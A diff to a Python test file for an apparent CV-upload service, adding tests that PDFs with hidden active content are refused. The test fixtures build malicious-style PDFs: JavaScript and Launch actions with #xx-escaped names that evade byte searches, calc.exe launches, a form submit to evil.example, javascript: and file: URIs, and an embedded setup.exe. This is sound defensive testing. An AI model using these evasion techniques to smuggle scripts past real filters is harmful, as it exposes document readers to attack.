@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import re
 import zlib
 from pathlib import Path
 
@@ -13,8 +14,14 @@ from matchmaker.models import AuditEntry, GraduateProfile, Introduction, Introdu
 
 
 def make_pdf(text: str = "Marta Kowalska, process engineer, Python", pages: int = 1, catalog_extra: bytes = b"",
-             content: bytes | None = None, flate: bool = False) -> bytes:
-    """A small valid PDF with one line of Helvetica text per page (built by hand, no library needed)."""
+             content: bytes | None = None, flate: bool = False, page_extra: dict[int, bytes] | None = None,
+             extra_objects: list[bytes] = ()) -> bytes:
+    """A small valid PDF with one line of Helvetica text per page (built by hand, no library needed).
+
+    `page_extra` adds entries to the dictionary of a page (by index); `extra_objects` are numbered from
+    `first_extra_object(pages)` on.
+    """
+    page_extra = page_extra or {}
     objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
                f"<< /Type /Pages /Kids [{' '.join(f'{3 + 2 * i} 0 R' for i in range(pages))}] "
                f"/Count {pages} >>".encode()]
@@ -27,9 +34,10 @@ def make_pdf(text: str = "Marta Kowalska, process engineer, Python", pages: int 
         else:
             head = b"<< /Length %d >>" % len(stream)
         objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 {font} "
-                       f"0 R >> >> /Contents {4 + 2 * i} 0 R >>".encode())
+                       f"0 R >> >> /Contents {4 + 2 * i} 0 R ".encode() + page_extra.get(i, b"") + b" >>")
         objects.append(head + b"\nstream\n" + stream + b"\nendstream")
     objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
+    objects.extend(extra_objects)
     out = bytearray(b"%PDF-1.4\n")
     offsets = []
     for number, body in enumerate(objects, 1):
@@ -40,6 +48,10 @@ def make_pdf(text: str = "Marta Kowalska, process engineer, Python", pages: int 
     out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
     out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
     return bytes(out)
+
+
+def first_extra_object(pages: int = 1) -> int:
+    return 4 + 2 * pages
 
 
 def encrypted_pdf() -> bytes:
@@ -161,6 +173,116 @@ def test_bad_files_get_a_message_at_the_field_and_nothing_is_saved(app, client, 
     profile = stored(db, graduate)
     assert profile.cv_file is None and profile.cv_text == "typed before"
     assert not cv_dir(app).exists() or list(cv_dir(app).iterdir()) == []
+
+
+# ---- active content in any object, names written with #xx escapes --------------------------------
+
+SCRIPT = b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"  # /JavaScript and /JS, escaped
+N = first_extra_object()
+
+
+def outline_with_script() -> bytes:
+    return make_pdf(catalog_extra=f"/Outlines {N} 0 R".encode(), extra_objects=[
+        f"<< /Type /Outlines /First {N + 1} 0 R /Last {N + 1} 0 R /Count 1 >>".encode(),
+        f"<< /Title (Profile) /Parent {N} 0 R /A ".encode() + SCRIPT + b" >>"])
+
+
+def form_field_parent_with_script() -> bytes:
+    return make_pdf(catalog_extra=f"/AcroForm << /Fields [{N} 0 R] >>".encode(),
+                    page_extra={0: f"/Annots [{N + 1} 0 R]".encode()}, extra_objects=[
+        f"<< /FT /Tx /T (name) /Kids [{N + 1} 0 R] /AA << /K ".encode() + SCRIPT + b" >> >>",
+        f"<< /Type /Annot /Subtype /Widget /Parent {N} 0 R /Rect [72 600 300 620] /P 3 0 R >>".encode()])
+
+
+def link_with_script_on_page_21() -> bytes:
+    first = first_extra_object(21)
+    return make_pdf(pages=21, page_extra={20: f"/Annots [{first} 0 R]".encode()}, extra_objects=[
+        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A " + SCRIPT + b" >>"])
+
+
+def link(action: bytes, pages: int = 1) -> bytes:
+    """A PDF whose first page has one link annotation with `action`."""
+    return make_pdf(pages=pages, page_extra={0: f"/Annots [{first_extra_object(pages)} 0 R]".encode()},
+                    extra_objects=[b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A " + action + b" >>"])
+
+
+HIDDEN_SCRIPTS = {
+    "outline action": (outline_with_script, lambda reader: reader.trailer["/Root"]["/Outlines"]["/First"]["/A"]),
+    "form field parent": (form_field_parent_with_script,
+                          lambda reader: reader.trailer["/Root"]["/AcroForm"]["/Fields"][0]["/AA"]["/K"]),
+    "link on page 21": (link_with_script_on_page_21, lambda reader: reader.pages[20]["/Annots"][0]["/A"]),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HIDDEN_SCRIPTS))
+def test_scripts_with_escaped_names_are_found_in_any_object(app, client, db, graduate, case):
+    build, find_action = HIDDEN_SCRIPTS[case]
+    data = build()
+    # The file is valid, its script invisible to a search of the bytes, and a reader decodes the names.
+    from pypdf import PdfReader
+
+    reader = PdfReader(io.BytesIO(data))
+    assert len(reader.pages) >= 1
+    action = find_action(reader)
+    assert action["/S"] == "/JavaScript" and action["/JS"] == "app.alert(1)"
+    assert not re.search(rb"/(JavaScript|JS|Launch)\b", data)
+    response = upload(client, data)
+    assert response.status_code == 400, case
+    assert "scripts or automatic actions" in response.get_data(as_text=True)
+    profile = stored(db, graduate)
+    assert profile.cv_file is None and profile.cv_text == "typed before"
+
+
+REFUSED_ACTIONS = {
+    "named action on opening": make_pdf(catalog_extra=b"/OpenAction << /S /Named /N /Print >>"),
+    "launch in a next chain": make_pdf(catalog_extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next "
+                                                     b"[<< /S /L#61unch /F (calc.exe) >>] >>"),
+    "page trigger": make_pdf(page_extra={0: b"/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>"}),
+    "remote go-to": link(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
+    "javascript uri": link(b"<< /S /URI /URI ( javascript:app.alert\\(1\\)) >>"),
+    "file uri": link(b"<< /S /URI /URI (file://server/share/x) >>"),
+    "script name tree": make_pdf(catalog_extra=f"/Names << /J#61vaScript {N} 0 R >>".encode(),
+                                 extra_objects=[b"<< /Names [(a) << /S /GoTo /D [3 0 R /Fit] >>] >>"]),
+    "action type by reference": make_pdf(page_extra={0: f"/Annots [{N} 0 R]".encode()}, extra_objects=[
+        f"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S {N + 1} 0 R >> >>".encode(),
+        b"/Imp#6FrtData"]),
+    # Not referenced from anywhere: a viewer repairing the file could still find it.
+    "unreferenced launch": make_pdf(extra_objects=[b"<< /S /L#61unch /F (calc.exe) >>"]),
+}
+
+
+@pytest.mark.parametrize("case", sorted(REFUSED_ACTIONS))
+def test_only_plain_links_and_jumps_are_accepted_as_actions(client, db, graduate, case):
+    response = upload(client, REFUSED_ACTIONS[case])
+    assert response.status_code == 400, case
+    assert "scripts or automatic actions" in response.get_data(as_text=True), case
+    assert stored(db, graduate).cv_file is None
+
+
+def test_attached_files_are_refused_in_the_users_language(client, db, graduate):
+    graduate.locale = "de"
+    db.session.commit()
+    data = make_pdf(catalog_extra=f"/Names << /EmbeddedFiles << /Names [(setup.exe) {N} 0 R] >> >>".encode(),
+                    extra_objects=[f"<< /Type /Filespec /F (setup.exe) /EF << /F {N + 1} 0 R >> >>".encode(),
+                                   b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"])
+    response = client.post("/me/cv", data={"cv": (io.BytesIO(data), "cv.pdf", "application/pdf")},
+                           content_type="multipart/form-data", headers={"Accept-Language": "de"})
+    assert response.status_code == 400
+    assert "Diese PDF enthält angehängte Dateien" in response.get_data(as_text=True)
+    assert stored(db, graduate).cv_file is None
+
+
+def test_a_cv_with_web_mail_links_and_an_outline_is_accepted(client, db, graduate):
+    data = make_pdf(catalog_extra=f"/Outlines {N} 0 R /OpenAction [3 0 R /Fit]".encode(),
+                    page_extra={0: f"/Annots [{N + 2} 0 R {N + 3} 0 R]".encode()}, extra_objects=[
+        f"<< /Type /Outlines /First {N + 1} 0 R /Last {N + 1} 0 R /Count 1 >>".encode(),
+        f"<< /Title (Profile) /Parent {N} 0 R /A << /S /GoTo /D [3 0 R /XYZ 0 792 0] >> >>".encode(),
+        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://github.com/mk) >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [72 680 200 700] /A << /Type /Action /S /URI "
+        b"/URI (mailto:marta@example.org) >> /Border [0 0 0] >>"])
+    response = upload(client, data)
+    assert response.status_code == 302
+    assert "process engineer, Python 1" in stored(db, graduate).cv_text
 
 
 def test_extraction_that_takes_too_long_is_stopped(app, client, db, graduate):
